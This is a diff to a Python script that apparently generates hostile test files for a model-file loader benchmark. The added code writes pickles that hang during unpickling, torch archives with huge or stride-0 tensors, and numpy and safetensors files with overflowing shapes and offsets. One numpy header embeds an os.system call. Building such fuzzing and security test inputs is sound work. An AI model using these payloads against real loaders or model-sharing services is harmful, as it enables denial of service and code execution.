@@ -117,6 +117,79 @@ CALLS = {
 }
 
 
+def tensor_pickle_ops(shape, strides, numel):
+    """Opcodes pushing torch._utils._rebuild_tensor_v2(storage '0' of numel floats, 0, shape, strides, False, OrderedDict())."""
+    def tup(xs):
+        return b"(" + b"".join(b"J" + struct.pack("<i", x) if x < 2**31 else b"\x8a\x08" + struct.pack("<q", x) for x in xs) + b"t"
+    return (b"ctorch._utils\n_rebuild_tensor_v2\n(" + b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu"
+            + b"J" + struct.pack("<i", numel) + b"tQ" + b"K\x00" + tup(shape) + tup(strides) + b"\x89ccollections\nOrderedDict\n)RtR")
+
+
+def nested_tuples(levels, base=0):
+    """Leaves t[levels] on the stack, where t[0] = ('a',) and t[i] = (t[i-1], t[i-1]) (memo base+i):
+    2^levels leaves in a few bytes a level."""
+    out = b"X\x01\x00\x00\x00a\x85q" + bytes([base]) + b"0"
+    for i in range(1, levels + 1):
+        m = bytes([base + i - 1])
+        out += b"h" + m + b"h" + m + b"\x86q" + bytes([base + i]) + b"0"
+    return out + b"h" + bytes([base + levels])
+
+
+def hangs(out):
+    """Pickles whose work (not their size) is huge: hashing shared tuples, copying a list again and again."""
+    n = 60
+    with open(os.path.join(out, "pickle_nested_tuple_dict_key.pkl"), "wb") as f:
+        f.write(b"\x80\x02}q\xf0" + nested_tuples(n) + b"K\x01s.")  # {t60: 1}
+    with open(os.path.join(out, "pickle_nested_tuple_set_item.pkl"), "wb") as f:
+        f.write(b"\x80\x04\x8fq\xf0(" + nested_tuples(n) + b"\x90.")  # {t60}
+    # two equal, distinct DAGs as keys of one dict: equal hashes, so the dict compares them
+    with open(os.path.join(out, "pickle_equal_tuple_dags.pkl"), "wb") as f:
+        f.write(b"\x80\x02}q\xf0" + nested_tuples(n) + b"K\x01s" + nested_tuples(n, 100) + b"K\x02s.")
+    # L = [0] * 20000, then list(L) 20,000 times (400 M items copied by 20,000 calls)
+    items = 20000
+    body = b"\x80\x02cbuiltins\nlist\nq\x01]q\x02(" + b"K\x00" * items + b"e"
+    body += b"0" + (b"h\x01h\x02\x85R0" * 20000) + b"h\x02."
+    with open(os.path.join(out, "pickle_list_copies.pkl"), "wb") as f:
+        f.write(body)
+    # a negative memo index read (the fuzzer's IndexOutOfBoundsException)
+    with open(os.path.join(out, "pickle_negative_memo_get.pkl"), "wb") as f:
+        f.write(b"\x80\x02K\x01q\x00g-1\n.")
+
+
+def tensors(out):
+    """Torch zips whose tensors are hostile: a DAG of dicts naming 2^40 tensors, a stride-0 view of 32 GiB over 16 bytes."""
+    storage = struct.pack("<4f", 1, 2, 3, 4)
+    leaf = tensor_pickle_ops((4,), (1,), 4) + b"q\x00"
+    dag = b"\x80\x02" + leaf
+    for i in range(1, 41):
+        dag += b"}q" + bytes([i]) + b"(X\x01\x00\x00\x00ah" + bytes([i - 1]) + b"X\x01\x00\x00\x00bh" + bytes([i - 1]) + b"u0h" + bytes([i])
+    dag += b"."
+    zip_of(os.path.join(out, "zip_dag_of_dicts.pt"), [("archive/data.pkl", dag), ("archive/data/0", storage), ("archive/version", b"3\n")])
+    view = b"\x80\x02}q\x00X\x04\x00\x00\x00viewq\x01" + tensor_pickle_ops((65536, 65536, 2), (0, 0, 0), 4) + b"s."
+    zip_of(os.path.join(out, "zip_stride0_view.pt"), [("archive/data.pkl", view), ("archive/data/0", storage), ("archive/version", b"3\n")])
+
+
+def npy(path, header, data=b""):
+    h = header.encode("latin1")
+    with open(path, "wb") as f:
+        f.write(b"\x93NUMPY\x02\x00" + struct.pack("<I", len(h)) + h + data)
+
+
+def headers(out):
+    npy(os.path.join(out, "npy_long_header.npy"), "{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }" + " " * 20000 + "\n", b"\0" * 4)
+    npy(os.path.join(out, "npy_code_in_header.npy"),
+        "{'descr': '<f4', 'fortran_order': False, 'shape': (1,), 'x': __import__('os').system('echo weightbench-attack'), }\n", b"\0" * 4)
+    npy(os.path.join(out, "npy_nested_header.npy"), "{'descr': '<f4', 'fortran_order': False, 'shape': " + "(" * 2000 + ")" * 2000 + "}\n")
+    npy(os.path.join(out, "npy_huge_shape.npy"), "{'descr': '<f4', 'fortran_order': False, 'shape': (9223372036854775807, 9223372036854775807), }\n")
+    # safetensors offsets that overflow (the leaked 'region [338, -9223...]')
+    hdr = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[338,9223372036854775807]}}'
+    with open(os.path.join(out, "safetensors_offset_overflow.safetensors"), "wb") as f:
+        f.write(struct.pack("<Q", len(hdr)) + hdr + b"\0" * 400)
+    hdr = b'{"a":{"dtype":"F32","shape":[4294967296,4294967296,4294967296],"data_offsets":[0,16]}}'
+    with open(os.path.join(out, "safetensors_shape_overflow.safetensors"), "wb") as f:
+        f.write(struct.pack("<Q", len(hdr)) + hdr + b"\0" * 16)
+
+
 def main():
     out = sys.argv[1]
     os.makedirs(out, exist_ok=True)
@@ -135,6 +208,9 @@ def main():
             zip_of(os.path.join(gdir, kind + "__" + g + ".pt"), [("archive/data.pkl", naming(g)), ("archive/version", b"3\n")])
     for name, pkl in CALLS.items():
         zip_of(os.path.join(out, name + ".pt"), [("archive/data.pkl", pkl), ("archive/version", b"3\n")])
+    hangs(out)
+    tensors(out)
+    headers(out)
     print("wrote attack files to", out)
 
 
